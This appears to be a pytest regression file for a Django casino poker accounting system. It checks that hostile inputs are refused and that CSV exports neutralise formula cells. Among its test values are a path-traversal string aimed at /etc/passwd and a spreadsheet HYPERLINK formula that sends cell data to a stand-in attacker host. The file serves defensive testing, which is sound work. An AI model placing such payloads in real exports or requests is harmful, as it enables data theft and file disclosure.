"""Hostile input (issue 13, item 1): each input the hostile tester sent, as a regression case. Every one is answered
400 (or 409 for a duplicate) in the one error shape, `{field: [message, ...]}`, naming the field at fault, and writes
nothing; a page given a bad query parameter or path segment answers 400 with the message, never a 500.

Money and counts are bounded by their columns (N.J.A.C. 13:69F-14.14, 14.19: the records of rake and contributions
are kept to the cent), text carries no control characters, days are within the casino's records, JSON bodies are
bounded in depth and size.
"""
import csv
import io
import json
from decimal import Decimal
from pathlib import Path
from urllib.parse import urlencode
from zoneinfo import ZoneInfo

import pytest
from django.test import Client
from django.utils import timezone
from rest_framework.test import APIClient

from apps.badbeat.models import Contribution, DisplayAdjustment, RuleChange
from apps.core.no_store import NoStoreMiddleware
from apps.core.roles import Role
from apps.counts.models import BadBeatCount as Count
from apps.rake.models import RakeRecord, TimeCharge
from apps.rake.services import post_time_charge_structure
from apps.rounds.models import RoundOfPlay
from apps.tables.models import PokerTable
from tests.core.test_idempotency import round_body
from tests.factories import JackpotFactory, RakeStructureFactory

pytestmark = pytest.mark.django_db
D = Decimal


@pytest.fixture
def table(casino):
    return RakeStructureFactory(table__casino=casino).table


def written():
    """Every kind of record a hostile request might have written."""
    return tuple(model.objects.count() for model in (RoundOfPlay, RakeRecord, Contribution, Count, PokerTable,
                                                     DisplayAdjustment, RuleChange, TimeCharge))


def players(**first):
    return [{"seat": 1, "name": "Ana", "contributed": "50.00", "hole_cards": "As Ks"} | first,
            {"seat": 2, "name": "Ben", "contributed": "50.00", "hole_cards": "2c 7d"}]


def refused(response, *fields, status=400):
    """The response is `status` in the one error shape and names each of `fields` (a path like players.0.name is
    named by its first part)."""
    assert response.status_code == status, (response.status_code, response.content[:500])
    body = response.json()
    assert isinstance(body, dict) and body, body
    for field in fields:
        assert field in body, (field, body)
    return body


def post_raw(api, path, text):
    """POST a body as written (json.dumps cannot write every hostile text)."""
    return api.post(path, data=text, content_type="application/json")


class TestRoundsOfPlay:
    """POST /api/rounds/: the round of play's amounts, names, cards and moments."""

    @pytest.mark.parametrize("contributed", [10**15, "1000000000000000", "999999999999999.99", "1e400", "-5.00",
                                             "0.001"])
    def test_an_amount_beyond_its_column_is_a_400(self, api, supervisor, table, contributed):
        api.force_authenticate(supervisor)
        before = written()
        refused(api.post("/api/rounds/", round_body(table, players=players(contributed=contributed)), format="json"),
                "players")
        assert written() == before

    def test_amounts_that_fit_one_by_one_but_not_as_a_pot_are_a_400(self, api, supervisor, table):
        """999,999,999,999.99 fits a player's column; two of them make a pot no record holds."""
        api.force_authenticate(supervisor)
        before = written()
        body = round_body(table, players=[
            {"seat": 1, "contributed": "999999999999.99", "hole_cards": "As Ks"},
            {"seat": 2, "contributed": "999999999999.99", "hole_cards": "2c 7d"}])
        refused(api.post("/api/rounds/", body, format="json"), "players")
        assert written() == before

    @pytest.mark.parametrize("literal", ["NaN", "Infinity", "-Infinity", '"NaN"', '"Infinity"', '"sNaN"', "1e400"])
    def test_no_number_but_a_finite_one(self, api, supervisor, table, literal):
        api.force_authenticate(supervisor)
        before = written()
        text = json.dumps(round_body(table)).replace('"contributed": "50.00"', f'"contributed": {literal}', 1)
        response = post_raw(api, "/api/rounds/", text)
        assert response.status_code == 400, response.content
        assert written() == before

    @pytest.mark.parametrize("name", ["Ana\x00", "A\x00na", "Ana\x1b[31m", "Ana\nBen", "\ud800"])
    def test_control_characters_in_a_name_are_a_400(self, api, supervisor, table, name):
        api.force_authenticate(supervisor)
        before = written()
        text = json.dumps(round_body(table, players=players(name=name)))
        refused(post_raw(api, "/api/rounds/", text), "players")
        assert written() == before

    @pytest.mark.parametrize(("field", "value"), [("external_id", "hand\x00-1"), ("board", "Ah\x00Kd"),
                                                  ("external_id", "x" * 121)])
    def test_control_characters_and_overlong_text_elsewhere(self, api, supervisor, table, field, value):
        api.force_authenticate(supervisor)
        before = written()
        refused(post_raw(api, "/api/rounds/", json.dumps(round_body(table, **{field: value}))), field)
        assert written() == before

    @pytest.mark.parametrize("value", [5, "5", {"seat": 1}, None, [], [5], ["Ana"]])
    def test_players_that_are_not_a_list_of_players(self, api, supervisor, table, value):
        api.force_authenticate(supervisor)
        before = written()
        refused(api.post("/api/rounds/", round_body(table, players=value), format="json"), "players")
        assert written() == before

    @pytest.mark.parametrize("value", [["NT"], 5, {"a": 1}, "NT"])
    def test_a_game_that_is_not_one_of_the_games(self, api, supervisor, table, value):
        api.force_authenticate(supervisor)
        refused(api.post("/api/rounds/", round_body(table, game=value), format="json"), "game")

    @pytest.mark.parametrize("table_id", [2**63, 2**64, -1, "abc", 1.5, None])
    def test_a_table_id_no_record_can_have(self, api, supervisor, table, table_id):
        api.force_authenticate(supervisor)
        refused(api.post("/api/rounds/", round_body(table) | {"table": table_id}, format="json"), "table")

    @pytest.mark.parametrize("started_at", [
        "0001-01-01T00:00:00+14:00", "0001-01-01T00:00:00-14:00", "9999-12-31T23:59:59-14:00",
        "9999-12-31T23:59:59+14:00", "2031-01-01T00:00:00Z", "1999-01-01T00:00:00Z", "2024-13-01T00:00:00Z",
        "abc-01-01T00:00:00Z", "2024-01-01T25:00:00Z"])
    def test_a_moment_outside_the_casinos_records_or_no_moment(self, api, supervisor, table, started_at):
        api.force_authenticate(supervisor)
        before = written()
        refused(api.post("/api/rounds/", round_body(table, started_at=started_at), format="json"), "started_at")
        assert written() == before

    def test_a_round_a_few_minutes_ahead_of_the_clock_is_taken(self, api, supervisor, table):
        """A tablet's clock runs a little fast: within five minutes of the casino's clock is now."""
        api.force_authenticate(supervisor)
        ahead = (timezone.now() + timezone.timedelta(minutes=2)).isoformat()
        assert api.post("/api/rounds/", round_body(table, started_at=ahead), format="json").status_code == 201


class TestJsonBodies:
    def test_a_5000_deep_array_is_a_400(self, api, supervisor, table):
        api.force_authenticate(supervisor)
        before = written()
        response = post_raw(api, "/api/rounds/", '{"table": 1, "players": ' + "[" * 5000 + "]" * 5000 + "}")
        assert response.status_code == 400 and response.json()
        assert written() == before

    def test_a_5000_deep_object_is_a_400(self, api, supervisor):
        api.force_authenticate(supervisor)
        response = post_raw(api, "/api/tables/", '{"a": ' * 5000 + "1" + "}" * 5000)
        assert response.status_code == 400 and response.json()

    @pytest.mark.parametrize("text", ['{"table": ', "\x00", "[1, 2", '{"table": 1}}', "\ud800"])
    def test_a_body_that_is_not_json(self, api, supervisor, text):
        api.force_authenticate(supervisor)
        response = api.post("/api/rounds/", data=text.encode("utf-8", "surrogatepass"),
                            content_type="application/json")
        assert response.status_code == 400 and response.json()


class TestPhh:
    """POST /api/rounds/phh/: the hand history's own fields."""

    @pytest.mark.parametrize("text", [
        "variant = ['NT']\nantes = [0, 0]\nblinds_or_straddles = [1, 2]\nmin_bet = 2\nstarting_stacks = [200, 200]\n"
        "actions = ['d dh p1 AsKs', 'd dh p2 2c7d']\n",
        "variant = 'NT'\nantes = [0, 0]\nblinds_or_straddles = [1, 1000000000000000]\nmin_bet = 2\n"
        "starting_stacks = [200, 200]\nactions = ['d dh p1 AsKs', 'd dh p2 2c7d']\n",
        "variant = 'NT'\nantes = [0, 0]\nblinds_or_straddles = [1, 2]\nmin_bet = 2\n"
        "starting_stacks = [inf, nan]\nactions = ['d dh p1 AsKs', 'd dh p2 2c7d']\n",
        "variant = 'NT'\nantes = [0, 0]\nblinds_or_straddles = [1, 2]\nmin_bet = 2\nplayers = 5\n"
        "starting_stacks = [200, 200]\nactions = ['d dh p1 AsKs', 'd dh p2 2c7d']\n",
        "variant = 'NT'\nantes = [0, 0]\nblinds_or_straddles = [1, 2]\nmin_bet = 2\nplayers = ['A\x00', 'B']\n"
        "starting_stacks = [200, 200]\nactions = ['d dh p1 AsKs', 'd dh p2 2c7d']\n",
        "variant = 'NT'\nyear = 'abc'\nmonth = 13\nday = 1\nantes = [0, 0]\nblinds_or_straddles = [1, 2]\n"
        "min_bet = 2\nstarting_stacks = [999999999999.99, 999999999999.99]\n"
        "actions = ['d dh p1 AsKs', 'd dh p2 2c7d', 'p1 cbr 999999999999.99', 'p2 cc']\n",
        "variant = 'NT'\nactions = [" + "[" * 5000,
    ])
    def test_a_hostile_hand_is_refused_with_its_reason(self, api, supervisor, table, text):
        api.force_authenticate(supervisor)
        before = written()
        response = api.post("/api/rounds/phh/", {"table": table.pk, "phh": text}, format="json")
        assert response.status_code == 400, response.content[:500]
        assert response.json()
        assert written() == before

    def test_nul_in_the_text_is_a_400(self, api, supervisor, table):
        api.force_authenticate(supervisor)
        response = api.post("/api/rounds/phh/", {"table": table.pk, "phh": "variant = 'NT'\x00"}, format="json")
        refused(response, "phh")


class TestTables:
    def test_a_table_without_a_game_is_a_hold_em_table(self, api, supervisor):
        api.force_authenticate(supervisor)
        response = api.post("/api/tables/", {"number": 5, "seats": 9, "minimum_wager": "2.00"}, format="json")
        assert response.status_code == 201, response.content
        assert response.json()["game"] == "holdem"

    def test_a_table_number_twice_is_a_409_naming_the_table(self, api, supervisor):
        api.force_authenticate(supervisor)
        first = api.post("/api/tables/", {"number": 5, "minimum_wager": "2.00"}, format="json").json()
        again = refused(api.post("/api/tables/", {"number": 5, "minimum_wager": "2.00"}, format="json"),
                        "number", status=409)
        assert again["existing_id"] == first["id"]

    @pytest.mark.parametrize(("field", "value"), [
        ("small_blind", 10**15), ("big_blind", "999999999999999.99"), ("minimum_wager", "NaN"),
        ("maximum_wager", "Infinity"), ("number", 2**40), ("seats", 2**40), ("location", "Pit\x00 1"),
        ("location", "x" * 10_000), ("game", ["NT"]), ("rotation", 5)])
    def test_a_field_beyond_its_column(self, api, supervisor, field, value):
        api.force_authenticate(supervisor)
        before = written()
        body = {"number": 6, "minimum_wager": "2.00", "small_blind": "1.00", "big_blind": "2.00", field: value}
        refused(api.post("/api/tables/", body, format="json"), field)
        assert written() == before


class TestCounts:
    @pytest.fixture
    def count_body(self, staff, table):
        accounting, supervisor = staff(Role.ACCOUNTING), staff(Role.POKER_SHIFT_SUPERVISOR)
        return {"table": table.number, "method": "closed_table", "counted_by": accounting.pk,
                "witness": supervisor.pk, "witness_kind": "supervisor", "surveillance_recorded": True}

    @pytest.mark.parametrize("chips", [{"1": 2**62}, {"1": 2**31}, {"1": -1}, {"1": "NaN"}, {"\x00": 1},
                                       {"1000000000000000": 1}, {"abc": 1}, 5, [1]])
    def test_chips_no_count_holds(self, api, staff, count_body, chips):
        api.force_authenticate(staff(Role.ACCOUNTING))
        before = written()
        refused(api.post("/api/counts/", count_body | {"chips": chips}, format="json"), "chips")
        assert written() == before

    @pytest.mark.parametrize("amount", [10**15, "NaN", "-Infinity", "999999999999999.99"])
    def test_an_amount_no_count_holds(self, api, staff, count_body, amount):
        api.force_authenticate(staff(Role.ACCOUNTING))
        body = count_body | {"amount": amount}
        refused(api.post("/api/counts/", body, format="json"), "amount")

    @pytest.mark.parametrize(("field", "value"), [("table", 2**63), ("counted_by", 2**70), ("witness", -1)])
    def test_ids_no_record_can_have(self, api, staff, count_body, field, value):
        api.force_authenticate(staff(Role.ACCOUNTING))
        refused(api.post("/api/counts/", count_body | {field: value}, format="json"), field)


class TestBadBeatMoney:
    @pytest.fixture
    def jackpot(self, casino):
        return JackpotFactory(casino=casino)

    @pytest.mark.parametrize("amount", [10**15, "NaN", "Infinity", "999999999999999.99"])
    def test_a_display_adjustment_beyond_its_column(self, api, staff, supervisor, jackpot, amount):
        api.force_authenticate(staff(Role.ACCOUNTING))
        before = written()
        response = api.post(f"/api/jackpots/{jackpot.pk}/display-adjustments/",
                            {"displayed_amount": amount, "supervisor_present": supervisor.pk}, format="json")
        refused(response, "displayed_amount")
        assert written() == before

    @pytest.mark.parametrize(("changes", "field"), [
        ({"maximum_contribution": "100000000000000000000"}, "maximum_contribution"),
        ({"contribution_amount": "NaN"}, "contribution_amount"),
        ({"reset_percentage": "1e400"}, "reset_percentage"),
        ({"qualifying_hand": "\x00"}, "qualifying_hand"),
        ({"no_such_rule": "1"}, "no_such_rule")])
    def test_a_rule_change_that_would_jam_is_refused_when_proposed(self, api, staff, jackpot, changes, field):
        api.force_authenticate(staff(Role.POKER_SHIFT_SUPERVISOR))
        before = written()
        body = {"changes": changes, "effective_at": (timezone.now() + timezone.timedelta(days=1)).isoformat()}
        refused(api.post(f"/api/jackpots/{jackpot.pk}/rule-changes/", body, format="json"), field)
        assert written() == before


class TestTimeCharges:
    @pytest.mark.parametrize(("field", "value"), [("players_seated", 2**40), ("players_seated", -1),
                                                  ("period_start", "9999-12-31T23:59:59-14:00"),
                                                  ("period_start", "0001-01-01T00:00:00+14:00")])
    def test_a_time_charge_no_record_holds(self, api, staff, table, field, value):
        api.force_authenticate(staff(Role.DEALER))
        before = written()
        body = {"period_start": timezone.now().isoformat(), "players_seated": 6, field: value}
        response = api.post(f"/api/tables/{table.pk}/time-charges/", body, format="json")
        assert response.status_code == 400, response.content
        assert field in response.json() or "table" in response.json(), response.json()
        assert written() == before


class TestPages:
    """A page's query parameter or path segment: 400 with the message, never a 500."""

    @pytest.fixture
    def browser(self, staff):
        client = Client()
        client.force_login(staff(Role.ADMIN))
        return client

    @pytest.mark.parametrize("url", [
        "/rake/?day=9999-12-31", "/rake/?day=0001-01-01", "/rake/?day=2024-13-01", "/rake/?day=abc",
        "/rake/?day=%00", "/rake/export.csv?day=9999-12-31", "/irregularities/?day=9999-12-31",
        "/irregularities/?day=abc", "/counts/?day=9999-12-31", "/counts/?day=2024-02-30",
        "/dealers/?start=9999-12-31T23:59", "/dealers/?start=abc", "/dealers/?start=0001-01-01T00:00",
        "/accounting/master-game-report/9999-12-31/", "/accounting/master-game-report/2024-13-01/",
        "/accounting/master-game-report/0001-01-01/report.pdf", "/accounting/master-game-report/abc/report.csv",
        "/accounting/reconciliation/9999-12-31/", "/accounting/forms/9999-12-31/forms.pdf",
        "/accounting/forms/2024-13-45/forms.csv"])
    def test_a_day_no_record_can_have_is_a_400(self, browser, url):
        response = browser.get(url)
        assert response.status_code == 400, (url, response.status_code)


class TestApiQueries:
    """Filters and pages of the API's lists: a value no record can have is a 400 naming the parameter or an empty
    page, never a 500; a page is at most 200 records, whatever is asked."""

    @pytest.mark.parametrize("query", [
        "table=9223372036854775808", "table=-1", "table=abc", "gaming_day=9999-12-31", "gaming_day=0001-01-01",
        "gaming_day=2024-13-01", "gaming_day=abc", "gaming_day=%00", "source=%00", "game=NT", "offset=-1",
        "offset=99999999999999999999", "limit=abc", "limit=-5", "went_to_showdown=maybe", "cursor=abc", "cursor=%00", "cursor=cD0yMDI0",
        "cursor=" + "A" * 5000])
    @pytest.mark.parametrize("path", ["/api/rounds/", "/api/rake-records/"])
    def test_a_filter_no_record_can_have(self, api, staff, table, path, query):
        api.force_authenticate(staff(Role.ADMIN))
        response = api.get(f"{path}?{query}")
        assert response.status_code in (200, 400), (path, query, response.status_code)
        assert isinstance(response.json(), dict)

    def test_a_page_is_at_most_200_records(self, api, supervisor, table):
        api.force_authenticate(supervisor)
        for number in range(201):
            api.post("/api/rounds/", round_body(table, external_id=f"h{number}"), format="json")
        page = api.get("/api/rounds/?limit=100000").json()
        assert len(page["results"]) == 200 and page["next"]

    @pytest.mark.parametrize(("path", "body", "field"), [
        ("/api/reconciliations/", {"gaming_day": "9999-12-31"}, "gaming_day"),
        ("/api/reconciliations/", {"gaming_day": "0001-01-01"}, "gaming_day"),
        ("/api/reconciliations/", {"gaming_day": "2024-13-01"}, "gaming_day"),
    ])
    def test_a_day_no_record_can_have_in_a_body(self, api, staff, path, body, field):
        api.force_authenticate(staff(Role.ACCOUNTING))
        refused(api.post(path, body, format="json"), field)


# --- issue 32, item 5: the input holes found attacking a production-like deployment ----------------------------------

#: A complete hand of no-limit hold 'em (three players, one folds, two show down): every field well formed, so that the
#: field under test is the only fault.
HAND = ("variant = 'NT'\nantes = [0, 0, 0]\nblinds_or_straddles = [1, 2, 0]\nmin_bet = 2\n"
        "starting_stacks = [200, 200, 200]\n"
        "actions = ['d dh p1 AsKs', 'd dh p2 2c7d', 'd dh p3 QhQd', 'p3 f', 'p1 cc', 'p2 cc', 'd db AhKd5c', 'p1 cc', "
        "'p2 cc', 'd db 9s', 'p1 cc', 'p2 cc', 'd db 3h', 'p1 cc', 'p2 cc', 'p1 sm AsKs', 'p2 sm 2c7d']\n")


def post_phh(api, text, **body):
    return api.post("/api/rounds/phh/", {"phh": text} | body, format="json")


class TestPhhFields:
    """POST /api/rounds/phh/: a PHH field of the wrong type, or a name with a control character, is a 400 naming the
    field (in the message of `phh`: the hand and its PHH field), never a 500 and never stored."""

    def test_the_hand_goes_in_with_its_fields_well_formed(self, api, supervisor, table):
        api.force_authenticate(supervisor)
        response = post_phh(api, HAND + "players = ['Ana', 'Ben', 'Cy']\n", table=table.pk)
        assert response.status_code == 201, response.content
        assert sorted(RoundOfPlay.objects.get().players.values_list("name", flat=True)) == ["Ana", "Ben", "Cy"]

    @pytest.mark.parametrize("players", ["5", "'Ana'", "['Ana', 'Ben']", "['Ana', 5, 'Cy']", "[]", "{ a = 1 }",
                                         "[['Ana'], 'Ben', 'Cy']"])
    def test_players_that_are_not_a_list_of_names_one_per_player(self, api, supervisor, table, players):
        """`players = 5` answered 500."""
        api.force_authenticate(supervisor)
        before = written()
        body = refused(post_phh(api, HAND + f"players = {players}\n", table=table.pk), "phh")
        assert "players must be a list of 3 names" in body["phh"][0], body
        assert written() == before

    @pytest.mark.parametrize("name", ["A\\u0000na", "Ana\\u0007", "Ana\\u001b[31m", "Ana\\nBen", "Ana\\tB",
                                      "Ana\\u007f", "Ana\\u0085"])
    def test_a_name_with_a_control_character(self, api, supervisor, table, name):
        """A NUL answered 500 (PostgreSQL refuses it); a BEL was stored."""
        api.force_authenticate(supervisor)
        before = written()
        body = refused(post_phh(api, HAND + f'players = ["{name}", "Ben", "Cy"]\n', table=table.pk), "phh")
        assert "players: the name of p1" in body["phh"][0] and "control character" in body["phh"][0], body
        assert written() == before

    @pytest.mark.parametrize(("fields", "named"), [
        ("ante_trimming_status = 1", "ante_trimming_status"), ("finishing_stacks = 5", "finishing_stacks"),
        ("time = '21:30'", "time"), ("time = 2026-11-20T21:30:00Z", "time"), ("year = 'abc'", "year"),
        ("year = 2026\nmonth = 1.5\nday = 1", "month"), ("min_bet = 'abc'", "min_bet"), ("min_bet = [2]", "min_bet")])
    def test_a_field_of_the_wrong_type(self, api, supervisor, table, fields, named):
        api.force_authenticate(supervisor)
        before = written()
        text = (HAND.replace("min_bet = 2\n", "") if named == "min_bet" else HAND) + fields + "\n"
        body = refused(post_phh(api, text, table=table.pk), "phh")
        assert f": {named} must be" in body["phh"][0], body
        assert written() == before


    @pytest.mark.parametrize("header", ['["h\\u0000"]', '["h\\u0007"]', '["1\\n2"]'])
    def test_a_hands_header_with_a_control_character(self, api, supervisor, table, header):
        """A .phhs hand's header is its label, stored as the round's source: refused like a name."""
        api.force_authenticate(supervisor)
        before = written()
        body = refused(post_phh(api, f"{header}\n{HAND}", table=table.pk), "phh")
        assert "the hand's header" in body["phh"][0] and "control character" in body["phh"][0], body
        assert written() == before


    @pytest.mark.parametrize("name", ["A\x00na", "Ana\x07", "Ana\x9b"])
    def test_the_money_path_refuses_a_name_with_a_control_character_whatever_the_door(self, table, name):
        """Behind every door (JSON, PHH, the simulator): verify_round refuses it, naming the player."""
        from apps.core.exceptions import DomainError
        from apps.feed.services import PlayerIn, RoundIn, record_round_of_play

        players = [PlayerIn(seat=1, name="Ben", contributed=D("5"), hole_cards="As Ks"),
                   PlayerIn(seat=2, name=name, contributed=D("5"), hole_cards="2c 7d")]
        before = written()
        with pytest.raises(DomainError) as refusal:
            record_round_of_play(table=table, round_in=RoundIn(started_at=timezone.now(), board="Ah Kd 5c 9s 3h",
                                                               players=players))
        assert refusal.value.field == "players[1].name"
        assert written() == before


class TestMoments:
    """A moment is taken as written or refused, never replaced: an unknown time zone or a date no calendar has is a
    400 naming the field (they became UTC and "now", moving the round's gaming day); a hand with a date and no zone is
    in the casino's zone; a started_at without an offset is refused (it was read in the server's zone)."""

    @pytest.mark.parametrize("zone", ["'Mars/Olympus'", "5", "'../../etc/passwd'", "''", "'America/New_York\\u0000'",
                                      "'America'", "'" + "A" * 300 + "'"])
    def test_an_unknown_time_zone_is_refused(self, api, supervisor, table, zone):
        api.force_authenticate(supervisor)
        before = written()
        text = HAND + f"year = 2026\nmonth = 11\nday = 20\ntime_zone = {zone}\n"
        body = refused(post_phh(api, text, table=table.pk), "phh")
        assert ": time_zone " in body["phh"][0] and "is not a time zone" in body["phh"][0], body
        assert written() == before

    @pytest.mark.parametrize(("date", "named"), [
        ("year = 2026\nmonth = 13\nday = 1", "month"), ("year = 2026\nmonth = 0\nday = 1", "month"),
        ("year = 2026\nmonth = 11\nday = 32", "day"), ("year = 2026\nmonth = 2\nday = 30", "year, month and day"),
        ("year = 2025\nmonth = 2\nday = 29", "year, month and day"), ("year = 0\nmonth = 1\nday = 1", "year"),
        ("year = 2026\nmonth = -1\nday = 1", "month")])
    def test_an_impossible_date_is_refused(self, api, supervisor, table, date, named):
        api.force_authenticate(supervisor)
        before = written()
        body = refused(post_phh(api, HAND + date + "\n", table=table.pk), "phh")
        assert f": {named}" in body["phh"][0], body
        assert written() == before

    def test_a_hand_with_a_date_and_no_zone_is_in_the_casinos_zone(self, api, supervisor, table):
        api.force_authenticate(supervisor)
        zone = table.casino.zone
        at = (timezone.now() - timezone.timedelta(hours=1)).astimezone(zone).replace(microsecond=0)
        text = HAND + f"year = {at.year}\nmonth = {at.month}\nday = {at.day}\ntime = {at:%H:%M:%S}\n"
        assert post_phh(api, text, table=table.pk).status_code == 201
        assert RoundOfPlay.objects.get().started_at == at  # not the same wall-clock time in UTC, 5 hours earlier

    def test_a_hand_with_its_zone_is_in_that_zone(self, api, supervisor, table):
        api.force_authenticate(supervisor)
        at = (timezone.now() - timezone.timedelta(hours=1)).astimezone(ZoneInfo("Europe/Paris")).replace(microsecond=0)
        text = HAND + (f"year = {at.year}\nmonth = {at.month}\nday = {at.day}\ntime = {at:%H:%M:%S}\n"
                       "time_zone = 'Europe/Paris'\n")
        assert post_phh(api, text, table=table.pk).status_code == 201
        assert RoundOfPlay.objects.get().started_at == at

    @pytest.mark.parametrize("started_at", ["2026-11-20T21:30:00", "2026-11-20 21:30", "2026-11-20T21:30:00.5"])
    def test_a_started_at_without_an_offset_is_refused(self, api, supervisor, table, started_at):
        api.force_authenticate(supervisor)
        before = written()
        body = refused(api.post("/api/rounds/", round_body(table, started_at=started_at), format="json"),
                       "started_at")
        assert "offset from UTC" in body["started_at"][0]
        assert written() == before

    def test_a_started_at_with_its_offset_is_taken_as_written(self, api, supervisor, table):
        api.force_authenticate(supervisor)
        at = (timezone.now() - timezone.timedelta(minutes=10)).astimezone(table.casino.zone).replace(microsecond=0)
        assert api.post("/api/rounds/", round_body(table, started_at=at.isoformat()), format="json").status_code == 201
        assert RoundOfPlay.objects.get().started_at == at

    def test_a_period_start_without_an_offset_is_refused(self, api, staff, table):
        post_time_charge_structure(table=table, hourly_fee=D("12.00"), interval_minutes=30)
        api.force_authenticate(staff(Role.DEALER))
        before = written()
        naive = (timezone.now() - timezone.timedelta(minutes=30)).replace(tzinfo=None).isoformat()
        refused(api.post(f"/api/tables/{table.pk}/time-charges/", {"period_start": naive, "players_seated": 6},
                         format="json"), "period_start")
        assert written() == before


class TestClosedTables:
    """A table that is closed (PokerTable.is_open false) takes no round of play and no time charge: 400 naming the
    table, whatever the door (one round, a batch, PHH)."""

    @pytest.fixture
    def closed(self, table):
        PokerTable.objects.filter(pk=table.pk).update(is_open=False)
        table.refresh_from_db()
        return table

    def test_a_round_at_a_closed_table(self, api, supervisor, closed):
        api.force_authenticate(supervisor)
        before = written()
        body = refused(api.post("/api/rounds/", round_body(closed), format="json"), "table")
        assert body["table"] == [f"Table {closed.number} is closed: a round of play is dealt at an open table only."]
        assert written() == before

    def test_a_batch_with_a_round_at_a_closed_table(self, api, supervisor, casino, closed):
        open_table = RakeStructureFactory(table__casino=casino).table
        api.force_authenticate(supervisor)
        before = written()
        body = {"rounds": [round_body(open_table, external_id="a"), round_body(closed, external_id="b")]}
        refused(api.post("/api/rounds/batch/", body, format="json"), "rounds[1].table")
        assert written() == before

    def test_a_phh_text_at_a_closed_table(self, api, supervisor, closed):
        api.force_authenticate(supervisor)
        before = written()
        body = refused(post_phh(api, HAND, table=closed.pk), "table")
        assert "is closed" in body["table"][0]
        assert written() == before

    def test_a_phh_hand_goes_to_an_open_table_only(self, api, supervisor, closed):
        api.force_authenticate(supervisor)
        body = refused(post_phh(api, HAND), "phh")
        assert f"no open table of the casino deals Texas hold 'em (high) for 3 players (closed: table {closed.number})" \
               in body["phh"][0], body
        PokerTable.objects.filter(pk=closed.pk).update(is_open=True)
        assert post_phh(api, HAND).status_code == 201

    def test_a_time_charge_at_a_closed_table(self, api, staff, closed):
        post_time_charge_structure(table=closed, hourly_fee=D("12.00"), interval_minutes=30)
        api.force_authenticate(staff(Role.DEALER))
        before = written()
        body = {"period_start": (timezone.now() - timezone.timedelta(minutes=30)).isoformat(), "players_seated": 6}
        answer = refused(api.post(f"/api/tables/{closed.pk}/time-charges/", body, format="json"), "table")
        assert "is closed" in answer["table"][0]
        assert written() == before


class TestBodyLimit:
    """The JSON body limit the README states (16 MiB, API_JSON_MAX_BYTES) is the one enforced: bodies of 2.5 to 16 MiB
    were refused by Django's DATA_UPLOAD_MAX_MEMORY_SIZE, which DRF applied to JSON. Forms keep their 2.5 MB bound."""

    def test_the_readme_states_the_limit_enforced(self, settings):
        readme = (Path(settings.BASE_DIR) / "README.md").read_text()
        hostile = readme[readme.index("- **Hostile input**"):readme.index("- **Fuzzing**")]
        assert f"{settings.API_JSON_MAX_BYTES // 2**20} MiB" in hostile
        assert settings.API_JSON_MAX_BYTES == 16 * 2**20 > settings.DATA_UPLOAD_MAX_MEMORY_SIZE

    def test_a_json_body_above_two_and_a_half_megabytes_is_read(self, api, supervisor, table, settings):
        api.force_authenticate(supervisor)
        text = "# " + "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1_000_000) + "\n" + HAND
        response = post_phh(api, text, table=table.pk)
        assert response.status_code == 201, response.content[:300]
        assert response.json()["imported"] == 1

    def test_a_json_body_over_the_limit_is_a_400(self, api, supervisor, table, settings):
        api.force_authenticate(supervisor)
        text = "x" * settings.API_JSON_MAX_BYTES
        response = post_phh(api, text, table=table.pk)
        assert response.status_code == 400
        assert response.json() == {"detail": f"The body is larger than {settings.API_JSON_MAX_BYTES:,} bytes."}

    def test_a_form_body_keeps_its_bound(self, api, supervisor, table, settings):
        api.force_authenticate(supervisor)
        form = urlencode({"table": table.pk, "phh": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 10)})
        response = api.post("/api/rounds/phh/", data=form, content_type="application/x-www-form-urlencoded")
        assert response.status_code == 400 and "detail" in response.json()


class TestCsvCells:
    """Every CSV export neutralises a cell that begins like a formula (`=`, `+`, `-`, `@`, tab, CR: OWASP's rule): a
    late correction's reason `=HYPERLINK(...)` went verbatim into the Master Game Report CSV."""

    def test_a_late_correction_reason_in_the_master_game_report_csv(self, staff, casino, table):
        from apps.casinos.selectors import current_gaming_day
        from apps.counts.services import close_gaming_day, record_late_correction

        accounting = staff(Role.ACCOUNTING)
        day = current_gaming_day(casino=casino) - timezone.timedelta(days=1)
        close_gaming_day(casino=casino, gaming_day=day)
        reason = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
        record_late_correction(casino=casino, corrects_gaming_day=day, kind="rake", amount=D("-2.00"), reason=reason,
                               made_by=accounting, table=table)
        browser = Client()
        browser.force_login(accounting)
        for report_day in (day, current_gaming_day(casino=casino)):
            response = browser.get(f"/accounting/master-game-report/{report_day:%Y-%m-%d}/report.csv")
            assert response.status_code == 200
            rows = list(csv.reader(io.StringIO(response.content.decode())))
            correction = next(row for row in rows if row[1].startswith("late correction"))
            assert correction[-1] == "'" + reason and correction[-2] == "-2.00"  # the text neutralised, not the number


class TestNoStore:
    """Every answer to an authenticated request (pages, API, exports) carries Cache-Control: no-store; the public
    feed, static files and the screens' signed links keep their own caching."""

    @pytest.fixture
    def browser(self, staff):
        client = Client()
        client.force_login(staff(Role.ADMIN))
        return client

    @pytest.mark.parametrize("url", ["/rake/", "/rake/export.csv", "/api/rounds/", "/accounting/contributions/",
                                     "/no-such-page/"])
    def test_a_signed_in_page_api_answer_or_export_is_not_stored(self, browser, table, url):
        response = browser.get(url)
        assert "no-store" in response["Cache-Control"], (url, response.status_code)

    def test_an_api_answer_to_a_token_is_not_stored(self, api, supervisor, table):
        api.force_authenticate(supervisor)
        assert "no-store" in api.get("/api/rounds/")["Cache-Control"]
        assert "no-store" in api.post("/api/rounds/", round_body(table), format="json")["Cache-Control"]
        token = api.post("/api/token/", {"username": supervisor.username, "password": "pw-for-tests-1"},
                         format="json")
        assert token.status_code == 200 and "no-store" in token["Cache-Control"]  # the token itself is a credential
        anonymous = APIClient()
        anonymous.credentials(HTTP_AUTHORIZATION=f"Token {token.json()['token']}")
        assert "no-store" in anonymous.get("/api/rounds/")["Cache-Control"]

    def test_the_public_feed_keeps_its_own(self, browser, casino, table):
        feed = browser.get(f"/api/public/{casino.code}/")
        assert feed.status_code == 200 and "no-store" not in feed["Cache-Control"]
        assert set(feed["Cache-Control"].split(", ")) == {"public", "max-age=15"}

    def test_an_answer_with_its_own_caching_keeps_it(self, rf, staff):
        """A view that sets its own Cache-Control (the screens' signed links set no-store themselves) keeps it; static
        files never reach the middleware: WhiteNoise answers them before it."""
        from django.conf import settings
        from django.http import HttpResponse

        def view(request):
            response = HttpResponse("x")
            response["Cache-Control"] = "public, max-age=60"
            return response

        request = rf.get("/somewhere/")
        request.user = staff(Role.ADMIN)
